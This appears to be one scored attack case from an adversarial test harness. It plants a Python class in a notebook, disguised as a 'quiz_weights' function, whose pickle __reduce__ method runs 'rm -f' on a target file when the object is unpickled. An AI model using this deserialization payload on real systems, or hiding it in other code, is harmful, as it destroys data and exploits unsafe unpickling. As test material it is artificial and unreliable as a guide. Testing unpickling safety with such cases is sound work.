"""Returns objects whose __reduce__ would run a command where they are unpickled."""

from hostile import TARGETS, put

POINTS = 9


def attack(notebook):
    source = f"""
class Bomb:
    def __reduce__(self):
        return (__import__("os").system, ("rm -f {TARGETS[0] if TARGETS else ""}",))
    __reduce_ex__ = lambda self, protocol: self.__reduce__()
def quiz_weights():
    return [Bomb(), Bomb(), Bomb()]
"""
    return put(notebook, "quiz_weights", source)
